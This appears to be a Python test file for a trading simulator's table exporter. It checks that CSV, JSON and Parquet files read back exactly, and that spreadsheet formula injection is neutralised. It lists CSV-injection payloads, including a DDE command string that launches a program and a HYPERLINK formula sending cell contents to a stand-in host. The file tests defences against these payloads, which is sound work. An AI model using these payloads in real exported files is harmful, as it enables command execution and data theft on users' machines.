"""Check that other programs read back the bytes of a table, and that a spreadsheet opens them safely."""

from __future__ import annotations

import csv
import io
import json
import math
import subprocess
import sys
import tomllib
from pathlib import Path
from typing import Any

import pandas as pd
import pyarrow as pa
import pyarrow.parquet
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from exporting.files import ExportError
from exporting.table import VERSION, Format, Table, neutralise_formulas
from tests.support.paths import PROJECT

COMMANDS = ["1+1", "cmd|'/C calc'!A0", 'HYPERLINK("http://a.example?"&A1,"x")', "SUM(A1:A9)", "IMPORTXML(A1,B1)"]
BEGINNINGS = [
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\t",
    "\r=",
    "\r",
    "\n=",
    " =",
    "\u00a0=",
    "\ufeff=",
    "\uff1d",
    "\uff0b",
    "\uff0d",
    "\uff20",
]
INNER = [
    "a,=1+1",
    "a;=1+1",
    "a\t=1+1",
    "a|@x",
    "a\n-1+1",
    "a\r\n+1",
    "a; =1+1",
    "a,b,c;;=1",
    "x\t \t@SUM(A1)",
    "=1;=2,=3",
]
PAYLOADS = [beginning + command for beginning in BEGINNINGS for command in COMMANDS] + INNER
HARMLESS = [
    "",
    "a",
    "BTC-USDT-SWAP",
    "book walk",
    "a = b",
    "50,000+ USD",
    "x@y",
    "1-2",
    "VIP 1",
    "'=1",
    "Ünïcode, 北京",
    'q"q',
]
SIGNS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"

finite = st.floats(allow_nan=False, allow_infinity=False)
numbers = st.one_of(finite, st.just(math.nan), st.integers(-(10**15), 10**15).map(float))
plain_text = st.text("abcXYZ .,;:'\"=+-@|_\u00e9\u5317", min_size=1, max_size=12).map(lambda text: "t" + text)


def strict_json(content: bytes) -> Any:
    def refuse(name: str) -> None:
        raise AssertionError(f"{name} is not JSON")

    return json.loads(content, parse_constant=refuse)


@st.composite
def tables(draw: st.DrawFn, texts: st.SearchStrategy[str] = plain_text) -> pa.Table:
    rows = draw(st.integers(1, 8))
    column = lambda values: st.lists(values, min_size=rows, max_size=rows)  # noqa: E731
    return pa.table(
        {
            "ns": pa.array(draw(column(st.integers(-(2**63), 2**63 - 1))), pa.int64()),
            "a_bps": pa.array(draw(column(numbers)), pa.float64(), from_pandas=True),
            "whole_s": pa.array(draw(column(st.integers(-(10**17), 10**17).map(float))), pa.float64()),
            "text": pa.array(draw(column(texts)), pa.large_string()),
        }
    )


@settings(max_examples=150, deadline=None)
@given(tables())
def test_csv_is_read_back_as_the_same_table(rows: pa.Table) -> None:
    """pandas reads every number to the last digit, in its own type, and every text, without any option."""
    content = Table(
        rows.set_column(3, "text", [[neutralise_formulas(text) for text in rows["text"].to_pylist()]]), {}
    ).csv()
    expected = rows.to_pandas()
    expected["text"] = [neutralise_formulas(text) for text in expected["text"]]
    pd.testing.assert_frame_equal(pd.read_csv(io.BytesIO(content)), expected, check_exact=True)


@settings(max_examples=150, deadline=None)
@given(tables(st.text(st.characters(exclude_categories=["Cs"]), max_size=12)))
def test_json_is_read_back_as_the_same_table(rows: pa.Table) -> None:
    """Any text and any number survive as strict JSON, one object a row; an unknown value is null."""
    assert strict_json(Table(rows, {}).json()) == rows.to_pylist()


@settings(max_examples=50, deadline=None)
@given(tables())
def test_parquet_is_read_back_as_the_same_table(rows: pa.Table) -> None:
    """Types, nulls and texts are as they were, and the description is inside the file."""
    read = pa.parquet.read_table(io.BytesIO(Table(rows, {"kind": "a test"}).parquet()))
    assert read.replace_schema_metadata(None).equals(rows)
    assert strict_json(read.schema.metadata[b"trade_simulator"]) == {
        "software": f"trade-simulator {VERSION}",
        "kind": "a test",
    }


def test_json_writes_null_for_nan_and_infinity() -> None:
    """Neither the rows nor the description hold NaN or an infinity, which JSON does not know."""
    table = Table(pa.table({"x": [math.inf, -math.inf, 1.5, math.nan]}), {"worst": math.inf, "in": [{"it": math.nan}]})
    assert strict_json(table.json()) == [{"x": None}, {"x": None}, {"x": 1.5}, {"x": None}]
    about = strict_json(table.about_json())
    assert (about["worst"], about["in"]) == (None, [{"it": None}])


def test_json_holds_more_rows_than_a_batch() -> None:
    """More rows than are turned into JSON at a time come out once each, in order."""
    rows = pa.table({"row": pa.array(range(12_345)), "half": pa.array([row / 2 for row in range(12_345)])})
    assert strict_json(Table(rows, {}).json()) == rows.to_pylist()
    assert strict_json(Table(rows.slice(0, 0), {}).json()) == []
    assert Table(rows.slice(0, 0), {}).csv() == b'"row","half"\n'


def test_formula_payloads_are_many() -> None:
    """There are over fifty different ones."""
    assert len(set(PAYLOADS)) >= 50


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
def test_formula_is_neutralised_in_csv(payload: str, delimiter: str) -> None:
    """No cell begins a formula, whatever a spreadsheet takes for the end of a cell. The rest of the text is kept."""
    table = Table(pa.table({"n": [-1.5], "text": [payload]}), {})
    (cell,) = [row["text"] for row in csv.DictReader(io.StringIO(table.csv().decode(), newline=""))]
    for piece in cell.replace("\r", delimiter).replace("\n", delimiter).split(delimiter):
        assert piece.strip(" \u00a0\ufeff")[:1] not in set(SIGNS), f"{cell!r} runs {piece!r}"
    assert cell.replace("'", "") == payload.replace("'", "")


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_not_changed(text: str) -> None:
    """A sign within a text begins no formula."""
    assert neutralise_formulas(text) == text


def test_numbers_and_other_formats_are_not_neutralised() -> None:
    """Negative numbers stay numbers; JSON and Parquet keep the text as it is."""
    table = Table(pa.table({"loss_bps": [-1.5, -2.0], "text": ["=1+1", "+2"]}), {})
    assert table.csv() == b'"loss_bps","text"\n-1.5,"\'=1+1"\n-2,"\'+2"\n'
    assert [row["text"] for row in strict_json(table.json())] == ["=1+1", "+2"]
    assert pa.parquet.read_table(io.BytesIO(table.parquet()))["text"].to_pylist() == ["=1+1", "+2"]


def test_formula_in_a_header_is_neutralised() -> None:
    """The name of a column is a cell as well."""
    assert Table(pa.table({"=1+1": [1]}), {}).csv() == b'"\'=1+1"\n1\n'


@pytest.mark.parametrize("fmt", ["csv", "json", "parquet"])
def test_duckdb_and_pandas_read_a_file_without_options(tmp_path: Path, fmt: Format) -> None:
    """Both open the file by its name alone, and find all rows, numbers as numbers and texts as texts."""
    rows = pa.table(
        {
            "market_ns": pa.array([1_747_300_000_123_456_789 + row for row in range(500)]),
            "market_utc": [f"2025-05-15 09:06:{row % 60:02d}.123456" for row in range(500)],
            "cost_bps": [None if row % 7 == 0 else row / 3 for row in range(500)],
            "whole_s": [300.0] * 500,
            "tier": ["VIP 1, \"best\"; 'x'\n2nd line" if row % 2 else "Regular" for row in range(500)],
        }
    )
    path = Table(rows, {}).save(tmp_path, "run", fmt)
    query = (
        f"select count(*), sum(market_ns)::varchar, sum(cost_bps), count(cost_bps), sum(whole_s), "  # noqa: S608
        f"count(distinct tier), min(market_utc)::varchar from '{path}'"
    )
    # In a process of its own: the binding complains of leaks when an interpreter that holds it ends.
    script = f"import duckdb, json; print(json.dumps(duckdb.connect().sql({query!r}).fetchall()))"
    answer = subprocess.run([sys.executable, "-c", script], check=True, capture_output=True, text=True)
    (counted,) = json.loads(answer.stdout)
    costs = [cost for cost in rows["cost_bps"].to_pylist() if cost is not None]
    whole = [500, str(sum(rows["market_ns"].to_pylist())), pytest.approx(math.fsum(costs)), len(costs), 150_000.0, 2]
    assert counted == [*whole, "2025-05-15 09:06:00.123456"]
    frame = getattr(pd, f"read_{fmt}")(path)
    assert list(frame.columns) == rows.column_names
    assert frame["market_ns"].tolist() == rows["market_ns"].to_pylist()
    assert frame["cost_bps"].sum() == pytest.approx(math.fsum(costs))
    assert frame["tier"].tolist() == rows["tier"].to_pylist()


def test_csv_sniffer_detects_delimiter_and_quotes() -> None:
    """The standard library's sniffer finds the right delimiter and quotes."""
    content = Table(pa.table({"a_bps": [1.5, -2.25], "text": ["x, y", 'q"q']}), {}).csv().decode()
    assert list(csv.reader(io.StringIO(content), csv.Sniffer().sniff(content))) == [
        ["a_bps", "text"],
        ["1.5", "x, y"],
        ["-2.25", 'q"q'],
    ]


def test_saved_file_has_its_description(tmp_path: Path) -> None:
    """Beside CSV and JSON lies a second file; Parquet holds its description within."""
    table = Table(pa.table({"x": [1]}), {"kind": "a test", "venue": "okx"})
    for fmt in ("csv", "json", "parquet"):
        folder = tmp_path / fmt
        assert table.save(folder, "Run 1", fmt) == folder / f"Run 1.{fmt}"
        assert (folder / f"Run 1.{fmt}").read_bytes() == getattr(table, fmt)()
        beside = sorted(path.name for path in folder.iterdir())
        assert beside == ([f"Run 1.{fmt}"] if fmt == "parquet" else [f"Run 1.{fmt}", "Run 1.meta.json"])
    about = strict_json((tmp_path / "csv" / "Run 1.meta.json").read_bytes())
    assert about == {"software": f"trade-simulator {VERSION}", "kind": "a test", "venue": "okx"}


def test_refused_save_changes_nothing(tmp_path: Path) -> None:
    """A bad name, an unknown format or an existing file gives an error, and the folder stays as it was."""
    table = Table(pa.table({"x": [1]}), {})
    table.save(tmp_path, "run", "csv")
    before = {path: path.read_bytes() for path in tmp_path.rglob("*")}
    for name, fmt, words in (
        ("../run", "csv", "may hold only"),
        ("run.json", "csv", "ends in .csv"),
        ("run", "xlsx", "must be one of csv, json, parquet"),
        ("run", "csv", "already"),
    ):
        with pytest.raises(ExportError, match=words):
            table.save(tmp_path, name, fmt)  # type: ignore[arg-type]
    assert {path: path.read_bytes() for path in tmp_path.rglob("*")} == before
    table.save(tmp_path, "run.csv", "csv", overwrite=True)


def test_table_refuses_a_column_of_another_type() -> None:
    """The error names the column."""
    with pytest.raises(ExportError, match=r"'when' holds timestamp"):
        Table(pa.table({"when": pa.array([0], pa.timestamp("ns"))}), {})


def test_version_is_that_of_the_project() -> None:
    """Files name the software as pyproject.toml does."""
    project = tomllib.loads((PROJECT / "pyproject.toml").read_text())["project"]
    assert (project["name"], project["version"]) == ("trade-simulator", VERSION)
